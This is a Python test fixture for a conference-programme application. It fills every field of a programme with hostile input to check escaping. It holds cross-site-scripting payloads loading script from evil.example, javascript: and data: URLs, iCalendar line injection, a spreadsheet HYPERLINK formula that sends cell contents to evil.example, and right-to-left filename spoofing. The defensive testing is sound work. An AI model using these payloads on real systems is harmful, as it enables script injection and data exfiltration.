"""A programme by somebody who means harm: whatever editors or files could put into it."""

from __future__ import annotations

import dataclasses
from collections.abc import Sequence

from forum.programme import Programme
from multilingual.text import Text
from sessions.values import Attachment, Recording
from speakers.values import Link
from tests.builders import (
    FIRST_DAY,
    a_page,
    a_partner,
    a_session,
    a_speaker,
    a_stage,
    a_stream,
    a_topic,
    a_track,
    an_announcement,
    an_appearance,
    an_edition,
    at,
)

SCRIPT = '<script src="https://evil.example/x.js">alert("<harm>")</script>'
FRAME = "<iframe src='https://evil.example/'></iframe><img src=x onerror=alert(1)>"
MARKDOWN = (
    "[press](javascript:alert(1)) ![see](https://evil.example/pixel.png) "
    "[data](data:text/html,harm) <svg onload=alert(1)>\n\n" + SCRIPT
)
ENDING = "]]></script></title><!-- --> </textarea> END:VEVENT\r\nEND:VCALENDAR\r\nX-HARM:1"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"press")'
CONTROL = "bell\x07 form\x0c escape\x1b[31m nul-like\x01 line\u2028separator"
DIRECTION = "abc\u202egnp.exe\u202c \u2066isolated"
LONG = "Endless" * 70

WORDS = (SCRIPT, FRAME, ENDING, FORMULA, CONTROL, DIRECTION, LONG, "@SUM(1)", "+1", "-1", "\t=1")
HARMFUL_ADDRESSES = (
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
)
STRANGE_ADDRESSES = (
    "https://evil.example/\"onmouseover='alert(1)'",
    "https://evil.example/<script>alert(1)</script>",
    "HTTPS://evil.example/?a=1&amp;b=]]>",
    "https://evil.example/;X-HARM:1,2",
)
"""Addresses of the web that would break out of what is written carelessly."""


def words(number: int) -> Text:
    """Return hostile words for both languages, others for each number."""
    return Text({"en": WORDS[number % len(WORDS)], "ru": WORDS[(number + 1) % len(WORDS)]})


def hostile_programme(addresses: Sequence[str] = STRANGE_ADDRESSES) -> Programme:
    """Return a programme with harm in every field that holds words or one of four addresses."""
    text = Text({"en": MARKDOWN, "ru": MARKDOWN})
    tracks = (a_track(1, name=words(0), description=text), a_track(2, name=words(3)))
    stages = (a_stage(1, name=words(1), description=text), a_stage(2, name=words(7)))
    topics = tuple(a_topic(n, name=words(n)) for n in range(4))
    links = tuple(Link(address, words(n)) for n, address in enumerate(addresses))
    speakers = tuple(
        a_speaker(
            n,
            name=words(n),
            position=words(n + 1),
            organisation=words(n + 2),
            biography=text,
            links=links,
        )
        for n in range(len(WORDS))
    )
    sessions = tuple(
        a_session(
            n + 1,
            title=words(n),
            subtitle=words(n + 1),
            abstract=text,
            description=words(n + 2),
            kind="other",
            kind_name=words(n + 3),
            topics=tuple(sorted(topic.guid for topic in topics)),
            track=tracks[n % 2].guid,
            stage=stages[n % 2].guid,
            starts_at=at(9, n),
            links=links,
            attachments=(Attachment(words(n), url=addresses[n % 4]),),
            recording=Recording(addresses[n % 4], FORMULA),
            feedback_url=addresses[(n + 1) % 4],
            origin_url=addresses[(n + 2) % 4],
        )
        for n in range(len(WORDS))
    )
    return Programme(
        edition=an_edition(
            name=words(0),
            tagline=words(1),
            description=text,
            organiser=words(3),
            organiser_url=addresses[0],
            website_url=addresses[1],
            register_url=addresses[2],
            contact_url=addresses[3],
            youtube_url=addresses[0],
            links=links,
            is_current=True,
        ),
        tracks=tracks,
        topics=topics,
        stages=stages,
        speakers=speakers,
        sessions=sessions,
        appearances=tuple(
            dataclasses.replace(an_appearance(session, speaker), title=words(n))
            for n, (session, speaker) in enumerate(zip(sessions, speakers, strict=True))
        ),
        streams=(a_stream(1, stage=stages[0].guid, day=FIRST_DAY),),
        pages=(a_page(1, title=words(2), body=text, in_menu=True),),
        partners=(a_partner(1, name=words(4), url=addresses[0]),),
        announcements=(
            an_announcement(1, title=words(5), body=text, urgent=True, url=addresses[0]),
        ),
    )
